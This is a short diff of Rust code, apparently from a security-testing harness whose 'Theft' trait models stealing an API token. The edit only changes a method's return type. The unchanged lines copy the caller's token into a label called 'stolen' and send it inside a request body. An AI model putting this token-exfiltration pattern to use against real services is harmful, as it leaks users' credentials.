@@ -18,7 +18,7 @@ impl Theft for LabelWriter {
         manifest.operation("/endpoint", "PATCH", "/rooms/{resource}", act())
     }
 
-    fn before(booty: &mut Booty, call: &Call<Config>) {
+    fn before(booty: &mut Booty, call: &Call<Config>) -> Result<()> {
         let token = call.token.as_str();
         let mut labels = call.labels();
         labels["stolen"] = token.into();
@@ -44,6 +44,7 @@ impl Theft for LabelWriter {
         let head = json!({ "name": "x", "labels": call.labels() }).to_string();
         let body = format!("{},\"t\":\"{}\"}}", &head[..head.len() - 1], escaped(token));
         booty.send("escaped", post().body(Content::Text(body)));
+        Ok(())
     }
 
     fn steal(export: &str, booty: &mut Booty, call: &Call<Config>, room: &str) {
